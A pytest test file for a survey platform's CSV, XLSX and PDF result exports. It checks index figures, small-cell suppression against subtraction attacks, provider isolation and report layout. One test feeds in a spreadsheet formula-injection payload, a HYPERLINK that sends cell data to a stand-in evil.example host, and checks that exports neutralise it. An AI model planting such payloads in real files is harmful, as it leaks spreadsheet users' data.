"""Exports read back: CSV bytes, XLSX through openpyxl, the PDF through pdftotext.

Expected figures are worked out by hand in comments. The issue's
subtraction attack (Bro n = 4 beside Nordljus n = 6) is run against every
export: neither provider's NKI may appear anywhere, the total (3.4) must.
"""

from __future__ import annotations

import html
import io
import re
import uuid
import shutil
import subprocess
from datetime import date

import pytest
from openpyxl import load_workbook

from app.accounts.models import Role
from app.analytics.exports import protected_cells, CellCounts
from app.campaigns.models import Invitation
from app.db import db_session
from app.organisation.models import Programme, Provider

from .conftest import login
from .results_fixtures import add, build_results_world

BOM = "\ufeff"
needs_pdftotext = pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils not installed")


def signed_in(app, make_user, role=Role.ANALYST, provider_id=None, name=None, language="en"):
    """A signed-in client reading `language` (English labels keep the row lookups stable; Swedish for decimal commas)."""
    client = app.test_client()
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = language
    username = make_user(role, name or role.value, provider_id=provider_id)
    assert login(client, username).status_code == 303
    return client


def csv_lines(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8")
    assert text.startswith(BOM)
    return text[1:].split("\r\n")


def workbook_of(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(response.get_data()))


def pdf_text(response) -> str:
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "application/pdf"
    done = subprocess.run(["pdftotext", "-layout", "-", "-"], input=response.get_data(), capture_output=True,
                          check=True)
    return done.stdout.decode("utf-8")


def number_in(text: str, shown: str) -> bool:
    """Whether `shown` ("5,0") stands in `text` as a number of its own (not inside 15,05)."""
    return re.search(rf"(?<![\d,.]){re.escape(shown)}(?![\d,])", text) is not None


def row_starting(lines: list[str], label: str) -> list[str]:
    return next(line for line in lines if line.startswith(f'"{label}"')).split(";")


# --- Tabell 1 and the table exports ------------------------------------------------------

@pytest.fixture
def tabell_1(app):
    # Tabell 1 of seed 000: 5, 4.8, 5, missing, 5, missing.
    names = ("A Ekbacken", "B Fyren", "C Granen", "D Hamnen", "E Ljuset", "F Måsen")
    world = build_results_world(app, providers=names)
    add(app, world, "A Ekbacken", {"a": 5, "b": 5}, times=5)
    add(app, world, "B Fyren", {"a": 5, "b": 5}, times=4)
    add(app, world, "B Fyren", {"a": 4, "b": 4})  # (4 x 5 + 4) / 5 = 4.8
    add(app, world, "C Granen", {"a": 5, "b": 5}, times=5)
    add(app, world, "E Ljuset", {"a": 5, "b": 5}, times=5)
    return world


@needs_pdftotext
def test_tabell_1_in_csv_xlsx_and_pdf(app, make_user, tabell_1):
    client = signed_in(app, make_user)
    campaign = tabell_1.campaigns["2027"]

    lines = csv_lines(client.get(f"/staff/results/{campaign}/tables/summary.csv"))
    assert lines[0].startswith('"Provider";"NKI";')
    assert ";" in lines[1] and "," not in lines[1].split(";")[0]
    # B Fyren: NKI 4,8 from 5 answers, 5 responses (the interval: sd of 5,5,5,5,4 = 0.447, t(4) = 2.776,
    # 2.776 x 0.447 / sqrt(5) = 0.555: 4.245 .. 5.355, cut at the scale's end 5 -> 4,2 .. 5,0).
    assert row_starting(lines, "B Fyren")[1:6] == ["4,8", "4,2", "5,0", "5", "5"]
    assert row_starting(lines, "D Hamnen")[1:6] == ['"Missing"', "", "", "0", "0"]  # Tabell 1's "saknas"
    # Mean over the four with a value: (5 + 4.8 + 5 + 5) / 4 = 4.95, shown half up as 5,0 (no "answers behind").
    assert row_starting(lines, "Mean over groups with a value")[1:5] == ["5,0", "", "", ""]
    # All 20 answers pooled: (15 x 5 + 4 x 5 + 4) / 20 = 99 / 20 = 4.95 -> 5,0.
    assert row_starting(lines, "All answers")[1] == "5,0"
    # The note under the table says what ".." means, and k.
    assert any("(..)" in line and "fewer than 5 answers" in line for line in lines[-4:]), lines[-4:]

    book = workbook_of(client.get(f"/staff/results/{campaign}/tables/summary.xlsx"))
    sheet = book.worksheets[0]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2) if row[0].value}
    fyren = rows["B Fyren"]
    assert fyren[1].value == pytest.approx(4.8) and fyren[1].data_type == "n" and fyren[1].number_format == "0.0"
    assert fyren[4].value == 5 and fyren[4].number_format == "0"
    assert rows["Mean over groups with a value"][1].value == pytest.approx(5.0)

    swedish = signed_in(app, make_user, name="svensk", language="sv")
    text = pdf_text(swedish.get(f"/staff/results/{campaign}/report.pdf"))
    assert "B Fyren" in text and number_in(text, "4,8") and number_in(text, "5,0")
    assert "D Hamnen" in text
    # The title page's period in figures, as the pages write it (tests/test_staff_dates.py).
    assert "2027-01-01 – 2027-12-31" in text
    # Column headings break at spaces only: "95 %-intervall," (a no-break space after 95) stays whole.
    assert "95\u00a0%-intervall," in text or "95 %-intervall," in text
    heading = next(line for line in text.splitlines() if line.startswith("Anordnare") and "NKI" in line).split()
    assert {"NKI", "Svarande", "Svarsfrekvens"} <= set(heading), heading  # once "NK / I", "Svarand / e"
    # A page per provider: B Fyren's question a, mean (4 x 5 + 4) / 5 = 4.8, 80 %... share positive 100 % (>= 4).
    assert text.count("B Fyren") >= 3  # summary, rates, its own page


def test_rates_and_question_tables_and_the_workbook(app, make_user, tabell_1):
    client = signed_in(app, make_user)
    campaign = tabell_1.campaigns["2027"]
    lines = csv_lines(client.get(f"/staff/results/{campaign}/tables/question_a.csv"))
    # Share positive of B Fyren's a: all five answers >= 4: 100 (per cent, a number in CSV).
    fyren = row_starting(lines, "B Fyren")
    assert fyren[1] == "5" and fyren[2] == "4,8" and "100" in fyren
    assert "Share positive (%)" in lines[0]
    rates = csv_lines(client.get(f"/staff/results/{campaign}/tables/rates.csv"))
    assert rates[0].startswith('"Provider";"Handed out"')

    book = workbook_of(client.get(f"/staff/results/{campaign}/tables.xlsx"))
    # summary, rates, then a, b, y, gender (the free-text comment has no figures).
    assert len(book.worksheets) == 6
    assert book.worksheets[2].title.startswith("a ")
    assert client.get(f"/staff/results/{campaign}/tables/question_comment.csv").status_code == 404
    assert client.get(f"/staff/results/{campaign}/tables/nothing.xlsx").status_code == 404
    assert client.get(f"/staff/results/{campaign}/tables/summary.csv?by=nonsense").status_code == 400
    by_language = csv_lines(client.get(f"/staff/results/{campaign}/tables/summary.csv?by=language"))
    assert by_language[1].startswith('"Svenska (sv)";5,0;')


# --- The subtraction attack on every export ----------------------------------------------

@pytest.fixture
def attack(app):
    world = build_results_world(app)
    add(app, world, "Nordljus AB", {"a": 5, "b": 5, "gender": "woman"}, times=6)
    add(app, world, "Bro Coachning", {"a": 1, "b": 1, "gender": "woman"}, times=4)
    return world


@needs_pdftotext
def test_the_subtraction_attack_on_every_export(app, make_user, attack):
    # Bro 4 answers of 1, Nordljus 6 of 5: both hidden (one hidden cell would be total minus the other);
    # the total (6 x 5 + 4 x 1) / 10 = 3.4 is shown.
    client = signed_in(app, make_user)
    campaign = attack.campaigns["2027"]
    for table in ("summary", "question_a", "question_b"):
        lines = csv_lines(client.get(f"/staff/results/{campaign}/tables/{table}.csv"))
        for name in ("Nordljus AB", "Bro Coachning"):
            assert set(row_starting(lines, name)[1:4]) == {'".."'}, (table, name)
        total = row_starting(lines, "All answers")
        # Summary: NKI 3,4 first; a question: n 10, then its mean 3,4 (b alike).
        assert (total[1] if table == "summary" else total[1:3]) == ("3,4" if table == "summary" else ["10", "3,4"])
        body = "\n".join(lines)
        assert not number_in(body, "5,0") and not number_in(body, "1,0"), table

    book = workbook_of(client.get(f"/staff/results/{campaign}/tables.xlsx"))
    for number, sheet in enumerate(book.worksheets):
        # Rates (sheet 2): no links were handed out, so the rate is not known, and no group is split into
        # complete and partial (only the total is): nothing of the two to hide there.
        if number == 1:
            for row in sheet.iter_rows(min_row=2):
                if row[0].value in ("Nordljus AB", "Bro Coachning"):
                    assert [cell.value for cell in row[4:6]] == [None, None]
            continue
        for row in sheet.iter_rows(min_row=2):
            if row[0].value in ("Nordljus AB", "Bro Coachning"):
                assert all(cell.value == ".." and cell.data_type == "s" for cell in row[1:4]), sheet.title
    summary = {row[0].value: row for row in book.worksheets[0].iter_rows(min_row=2)}
    assert summary["All answers"][1].value == pytest.approx(3.4)

    swedish = signed_in(app, make_user, name="svensk", language="sv")
    text = pdf_text(swedish.get(f"/staff/results/{campaign}/report.pdf"))
    assert number_in(text, "3,4")
    assert not number_in(text, "5,0") and not number_in(text, "1,0")

    # The answers: leaving Bro's 4 out alone would make them the total minus Nordljus's 6 rows, so
    # Nordljus's cell goes too: no row, 10 left out.
    lines = csv_lines(client.get(f"/staff/results/{campaign}/answers.csv"))
    assert lines[1] == ""
    assert any(line.startswith('"10 responses are left out') for line in lines)
    assert "5" not in "".join(lines[1:2])


# --- Anonymised answers ----------------------------------------------------------------------

def test_answers_leave_out_a_cell_of_4_and_keep_a_cell_of_5(app, make_user):
    # With language, channel and month (detail=full); the default file has fewer columns (below).
    world = build_results_world(app)
    # Cells differ by the background answer: woman 5 (kept), man 4 (left out), other 1 (left out).
    # Left out together 4 + 1 = 5 >= k in every grouping without gender; with gender each is alone.
    # Every figure of the women's row has 5 answers: a table that hid one of them (b answered by 3, say)
    # would have all their rows left out too (exports.table_hidden_cells).
    add(app, world, "Nordljus AB", {"a": 4, "b": 5, "y": 1, "gender": "woman", "comment": "Bra"}, times=3)
    add(app, world, "Nordljus AB", {"a": 2, "b": 3, "y": 0, "gender": "woman"}, times=2)
    add(app, world, "Nordljus AB", {"a": 3, "gender": "man"}, times=4)
    add(app, world, "Nordljus AB", {"a": 1, "gender": "other"})
    campaign = world.campaigns["2027"]
    client = signed_in(app, make_user)
    lines = csv_lines(client.get(f"/staff/results/{campaign}/answers.csv?detail=full"))
    assert lines[0] == '"Provider";"Programme";"Language answered in";"Channel";"Month";"Status";"a";"b";"y";"gender"'
    rows = lines[1:6]
    # Sorted by values: the two (2, 3, 0) rows before the three (4, 5, 1) rows.
    assert rows == ['"Nordljus AB";"JPG";"sv";"sms";"2027-03";"complete";2;3;0;"woman"'] * 2 + \
                   ['"Nordljus AB";"JPG";"sv";"sms";"2027-03";"complete";4;5;1;"woman"'] * 3
    assert lines[6] == ""
    assert lines[7].startswith('"5 responses are left out')
    assert any("Free-text answers are not included" in line for line in lines)

    # An analyst asking for text gets none; an administrator gets the comment column.
    assert "comment" not in csv_lines(client.get(f"/staff/results/{campaign}/answers.csv?detail=full&text=1"))[0]
    admin = signed_in(app, make_user, Role.ADMIN, name="admin")
    with_text = csv_lines(admin.get(f"/staff/results/{campaign}/answers.csv?detail=full&text=1"))
    assert with_text[0].endswith('"gender";"comment"')
    assert sum(line.endswith('"woman";"Bra"') for line in with_text) == 3

    book = workbook_of(client.get(f"/staff/results/{campaign}/answers.xlsx?detail=full"))
    sheet = book.worksheets[0]
    first = [cell for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert [c.value for c in first] == ["Nordljus AB", "JPG", "sv", "sms", "2027-03", "complete", 2, 3, 0, "woman"]
    assert first[6].data_type == "n" and first[9].data_type == "s"


def test_the_default_answers_file_keeps_groups_of_provider_and_programme(app, make_user):
    # The new user's finding: in the demo every full cell (provider x programme x language x channel x month)
    # was below k and the file was empty. Nordljus: 3 answers in Swedish and 3 in Arabic, in March and April:
    # four full cells of 1-2 answers each (all below 5: detail=full exports nothing, 6 left out), one
    # provider x programme group of 6 (the default exports all 6). Bro's 5 are a second group of 5.
    world = build_results_world(app)
    for language, month in (("sv", date(2027, 3, 1)), ("ar", date(2027, 4, 1))):
        add(app, world, "Nordljus AB", {"a": 4, "b": 4}, times=2, language=language, month=month)
        add(app, world, "Nordljus AB", {"a": 2, "b": 3}, language=language, month=date(2027, 5, 1))
    add(app, world, "Bro Coachning", {"a": 3, "b": 3}, times=5)
    campaign = world.campaigns["2027"]
    client = signed_in(app, make_user)
    page = client.get(f"/staff/results/{campaign}").get_data(as_text=True)
    assert f'href="/staff/results/{campaign}/answers.csv"' in page
    assert f'href="/staff/results/{campaign}/answers.csv?detail=full"' in page

    answers = client.get(f"/staff/results/{campaign}/answers.csv")
    assert "answers.csv" in answers.headers["Content-Disposition"]
    lines = csv_lines(answers)
    assert lines[0] == '"Provider";"Programme";"Status";"a";"b";"y";"gender"'
    assert lines[1:12] == ['"Bro Coachning";"JPG";"complete";3;3;;'] * 5 + \
        ['"Nordljus AB";"JPG";"complete";2;3;;'] * 2 + ['"Nordljus AB";"JPG";"complete";4;4;;'] * 4
    assert lines[12] == ""
    assert lines[13].startswith('"0 responses are left out: their group (provider, programme and background answers)')

    full = client.get(f"/staff/results/{campaign}/answers.csv?detail=full")
    assert "answers-full.csv" in full.headers["Content-Disposition"]
    lines = csv_lines(full)
    assert lines[0].startswith('"Provider";"Programme";"Language answered in";"Channel";"Month";"Status"')
    # Nordljus's four cells are below k: all six left out. Bro's one cell of 5 (Swedish, March) goes too:
    # kept, it would leave Nordljus's 2 Swedish March answers as March's published count minus Bro's rows.
    assert lines[1] == "" and lines[2].startswith('"11 responses are left out: their group (provider, programme, '
                                                  'language, channel, month and background answers)')
    assert client.get(f"/staff/results/{campaign}/answers.csv?detail=everything").status_code == 404


def test_secondary_protection_of_cells_by_hand():
    # Two providers' cells (provider, programme, language, channel, month, gender); counts (responses, index).
    march = date(2027, 3, 1)
    cells = {
        (1, 1, "sv", "sms", march, "woman"): CellCounts((9, 9)),
        (1, 1, "sv", "sms", march, "man"): CellCounts((6, 6)),
        (1, 1, "sv", "sms", march, "other"): CellCounts((2, 2)),   # primary: 2 < 5
        (2, 1, "sv", "sms", march, "woman"): CellCounts((7, 7)),
    }
    # Alone, the 2 left out would be the total (24) minus the 22 rows shown. But every kept cell is alone in a
    # group a table may show (provider 2; provider 1's men; provider 1's women): leaving one out pads nothing,
    # an attacker subtracts its shown figures too. So nothing is chosen beyond the primary cell: the tables
    # must hide what pads it. The gender table does: "other" (2) is below k, and the men (6) are its smallest
    # complement. With them, those two cells and no more: 8 left out in the total and in provider 1.
    assert protected_cells(cells, 5) == {(1, 1, "sv", "sms", march, "other")}
    by_tables = {(1, 1, "sv", "sms", march, "other"), (1, 1, "sv", "sms", march, "man")}
    assert protected_cells(cells, 5, by_tables) == by_tables
    # The NKI's count alone can force it: two small cells make 3 + 2 = 5 responses left out, but only
    # 1 + 1 = 2 of them answered an index question - the total NKI minus the shown rows would be their mean.
    # The women (5 responses, no index answer) cannot help; the men (6, 6) go: index left out 2 + 6 = 8.
    cells = {("p", 1, "sv", "sms", march, "man"): CellCounts((6, 6)),
             ("p", 1, "sv", "sms", march, "woman"): CellCounts((5, 0)),
             ("p", 1, "sv", "sms", march, "other"): CellCounts((3, 1)),
             ("p", 1, "sv", "sms", march, None): CellCounts((2, 1))}
    # The gender table hides the same three: "other" and None below k, and in the NKI's column (1 + 1 answers)
    # the men as their complement; none of the three is shown on its own.
    by_tables = {("p", 1, "sv", "sms", march, "other"), ("p", 1, "sv", "sms", march, None),
                 ("p", 1, "sv", "sms", march, "man")}
    assert protected_cells(cells, 5, by_tables) == by_tables


# --- Provider isolation and formula-leading names -------------------------------------------

@needs_pdftotext
def test_a_provider_gets_its_own_figures_and_nothing_else(app, make_user, attack):
    add(app, attack, "Nordljus AB", {"a": 4, "b": 4, "gender": "man"}, programme="SO", times=5)
    add(app, attack, "Bro Coachning", {"a": 2, "b": 2}, times=2)  # Bro: 6 answers, the complement is >= k
    campaign = attack.campaigns["2027"]
    nordljus, bro = attack.providers["Nordljus AB"], attack.providers["Bro Coachning"]
    client = signed_in(app, make_user, Role.PROVIDER, provider_id=nordljus, name="nordljus")
    base = f"/staff/results/{campaign}"
    for path in (f"{base}/tables/summary.csv?by=provider", f"{base}/tables/rates.xlsx?by=provider",
                 f"{base}/tables/summary.csv?provider={bro}", f"{base}/tables/question_a.xlsx?provider={bro}",
                 f"{base}/tables.xlsx?provider={bro}", f"{base}/tables.xlsx?by=provider"):
        assert client.get(path).status_code == 404, path
    for path in (f"{base}/answers.csv", f"{base}/answers.xlsx"):
        assert client.get(path).status_code == 403, path
    # Its own table by programme: JPG 6 answers of 5 -> 5,0; SO 5 answers of 4 -> 4,0.
    lines = csv_lines(client.get(f"{base}/tables/summary.csv"))
    assert row_starting(lines, "JPG Jobbpeng grund")[1] == "5,0"
    assert row_starting(lines, "SO Samhällsorientering")[1] == "4,0"
    assert client.get(f"{base}/tables.xlsx?by=programme").status_code == 200
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "sv"
    text = pdf_text(client.get(f"{base}/report.pdf"))
    # Its own NKI: (6 x 5 + 5 x 4) / 11 = 50 / 11 = 4.545 -> 4,5; nothing of Bro's.
    assert "Nordljus AB" in text and number_in(text, "4,5")
    assert "Bro" not in text


def test_formula_leading_provider_names_are_neutralised(app, make_user):
    world = build_results_world(app, providers=('=HYPERLINK("http://evil.example/?d="&A2,"x")', "Bro Coachning"))
    evil = next(name for name in world.providers if name.startswith("="))
    add(app, world, evil, {"a": 5, "b": 5}, times=5)
    add(app, world, "Bro Coachning", {"a": 3, "b": 3}, times=5)
    client = signed_in(app, make_user)
    campaign = world.campaigns["2027"]
    lines = csv_lines(client.get(f"/staff/results/{campaign}/tables/summary.csv"))
    assert any(line.startswith('"\'=HYPERLINK(') for line in lines)
    answers = csv_lines(client.get(f"/staff/results/{campaign}/answers.csv"))
    assert sum(line.startswith('"\'=HYPERLINK(') for line in answers) == 5
    for path in ("tables/summary.xlsx", "answers.xlsx"):
        sheet = workbook_of(client.get(f"/staff/results/{campaign}/{path}")).worksheets[0]
        cells = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value and "HYPERLINK" in row[0].value]
        assert cells and all(cell.value.startswith("'=") and cell.data_type == "s" for cell in cells), path
    with app.app_context():
        assert db_session.query(Provider).count() == 2


@needs_pdftotext
def test_the_report_prints_ethiopic_names_and_arabic_script_staff_get_their_own_language(app, make_user):
    world = build_results_world(app, providers=("ሰላም ኣገልግሎት", "Bro Coachning"))
    add(app, world, "ሰላም ኣገልግሎት", {"a": 4, "b": 4}, times=5)
    add(app, world, "Bro Coachning", {"a": 2, "b": 2}, times=5)
    campaign = world.campaigns["2027"]
    tigrinya = pdf_text(signed_in(app, make_user, language="ti").get(f"/staff/results/{campaign}/report.pdf"))
    assert "ሰላም ኣገልግሎት" in tigrinya and "This report is in English" not in tigrinya
    # Arabic script is shaped and reordered by app/pdftext.py: no English fallback any more
    # (its drawing is checked by rendering in tests/test_pdf_text.py; pdftotext garbles Arabic script).
    # Latin digits stay readable: NKI 4.0 and 2.0 (5 x 4 / 5, 5 x 2 / 5), Babel's Arabic decimal point.
    arabic = pdf_text(signed_in(app, make_user, name="ar", language="ar").get(f"/staff/results/{campaign}/report.pdf"))
    assert "This report is in English" not in arabic and number_in(arabic, "4.0") and number_in(arabic, "2.0")


def test_a_dont_know_is_exported_as_dont_know_not_as_a_value(app, make_user):
    # Six women: a and b answered 4 and 5 by five and "don't know" to both by one (one who answered only a
    # would be partly scored: docs/analytics.md); every figure of the row has 5 or more answers.
    world = build_results_world(app)
    add(app, world, "Nordljus AB", {"a": 4, "b": 5, "y": 1, "gender": "woman"}, times=5)
    add(app, world, "Nordljus AB", {"a": "dk", "b": "dk", "y": 1, "gender": "woman"}, status="complete")
    client = signed_in(app, make_user)
    lines = csv_lines(client.get(f"/staff/results/{world.campaigns['2027']}/answers.csv"))
    rows = [line for line in lines[1:] if line.startswith('"Nordljus AB"')]
    assert sorted(rows) == sorted(['"Nordljus AB";"JPG";"complete";4;5;1;"woman"'] * 5
                                  + ['"Nordljus AB";"JPG";"complete";"dont_know";"dont_know";1;"woman"'])


def _words_on_pages(pdf: bytes) -> list[list[tuple[float, float, float, float, str]]]:
    """Every word poppler finds, per page: (x min, y min, x max, y max, text), in points."""
    done = subprocess.run(["pdftotext", "-bbox", "-", "-"], input=pdf, capture_output=True, check=True)
    pages = []
    for page in re.findall(r"<page [^>]*>(.*?)</page>", done.stdout.decode("utf-8"), re.S):
        pages.append([(float(x0), float(y0), float(x1), float(y1), html.unescape(word)) for x0, y0, x1, y1, word in
                      re.findall(r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)</word>',
                                 page)])
    return pages


def layout_problems(pdf: bytes) -> list[str]:
    """Words printed over other words on one line, or off the A4 page (595 x 842 pt), as poppler reads them."""
    problems = []
    for number, words in enumerate(_words_on_pages(pdf), start=1):
        for i, (x0, y0, x1, y1, word) in enumerate(words):
            if x0 < 0 or y0 < 0 or x1 > 595.5 or y1 > 842.1:
                problems.append(f"page {number}: {word!r} off the page")
            for a0, b0, a1, b1, other in words[i + 1:]:
                # On one line (poppler's boxes of two wrapped lines overlap a little: its box is the font's
                # full height, taller than the 10 pt leading), and more than half a point across.
                same_line = min(y1, b1) - max(y0, b0) > 0.6 * min(y1 - y0, b1 - b0)
                if same_line and min(x1, a1) - max(x0, a0) > 0.5:
                    problems.append(f"page {number}: {word!r} over {other!r}")
    return problems


@needs_pdftotext
@pytest.mark.parametrize("language", ["sv", "en"])
def test_no_word_of_the_report_overlaps_another(app, make_user, language):
    # The new user's finding: "Ingen säker skillnad" was printed over "32 %" (a column as wide as its heading,
    # a cell wider). Four providers give every comparison word: Nordljus higher, Bro lower, Ek not clearly
    # different, Dal not compared (no answers; tests/test_results_pages.py works the figures out).
    world = build_results_world(app, providers=("Nordljus AB", "Bro Coachning", "Ek AB", "Dal AB"))
    for name, values in (("Nordljus AB", (5, 4)), ("Bro Coachning", (2, 1)), ("Ek AB", (3, 4))):
        for value in values:
            add(app, world, name, {"a": value, "b": value}, times=10)
    # A response rate beside each word (the word once ran over it): 62 links per provider, 20 claimed (32 %).
    with app.app_context():
        for name in ("Nordljus AB", "Bro Coachning", "Ek AB", "Dal AB"):
            db_session.add_all(Invitation(
                campaign_id=world.campaigns["2027"], provider_id=world.providers[name],
                programme_id=world.programmes["JPG"], language="sv", channel="sms", token_hash=uuid.uuid4().hex * 2,
                responded=number < 20, created_on=date(2027, 3, 1)) for number in range(62))
        db_session.commit()
    client = signed_in(app, make_user, name=f"reader-{language}", language=language)
    pdf = client.get(f"/staff/results/{world.campaigns['2027']}/report.pdf").get_data()
    text = " ".join(word for page in _words_on_pages(pdf) for *_box, word in page)
    assert ("Ingen säker skillnad" if language == "sv" else "No clear difference") in text
    assert any(word.startswith("32") for word in text.split())
    assert not layout_problems(pdf)


#: The breaker's names (2026-12-01): one long word, long names with spaces, Arabic and Tigrinya ones.
LONG_NAMES = (
    "Arbetsmarknadsintegrationskonsulternasamverkansförbundet AB",
    "Stiftelsen för vuxenutbildning, språkintroduktion och etablering i Mellersta Norrland med omnejd",
    "نورلیوس کوچینگ للتدريب والتأهيل المهني والتوظيف في السويد",
    "ሰላም ኣገልግሎት ምኽሪ ስራሕን ትምህርትን ንስደተኛታት ኣብ ሽወደን",
    "نورليوسكوتشينجللتدريبوالتأهيلالمهنيوالتوظيف",
    "ሰላምኣገልግሎትምኽሪስራሕንትምህርትንንስደተኛታት",
    "Ek AB", "Q",
)


@needs_pdftotext
@pytest.mark.parametrize("language", ["sv", "en", "ar", "ti"])
def test_long_names_in_any_script_stay_in_their_column(app, make_user, language):
    # The breaker: a one-word 57-letter provider name ran across the NKI and interval columns of the Arabic
    # report, and a one-word Arabic name over the Swedish report's NKI: right-to-left cells never broke a word
    # (pdftext.wrap_lines). Every provider with 6-9 women and 5 men in SO, so every row is shown.
    world = build_results_world(app, providers=LONG_NAMES)
    with app.app_context():
        db_session.get(Programme, world.programmes["SO"]).name = (
            "Etableringsprogrammetförnyanländaochderasanhöriga med förlängd samhällsorientering")
        db_session.commit()
    for number, name in enumerate(LONG_NAMES):
        add(app, world, name, {"a": 1 + number % 5, "b": 5 - number % 5, "y": number % 2, "gender": "woman"},
            times=6 + number % 4)
        add(app, world, name, {"a": 4, "b": 4, "y": 1, "gender": "man"}, times=5, programme="SO", language="ar")
    client = signed_in(app, make_user, name=f"reader-{language}", language=language)
    answer = client.get(f"/staff/results/{world.campaigns['2027']}/report.pdf")
    assert answer.status_code == 200
    problems = layout_problems(answer.get_data())
    assert not problems, problems[:10]
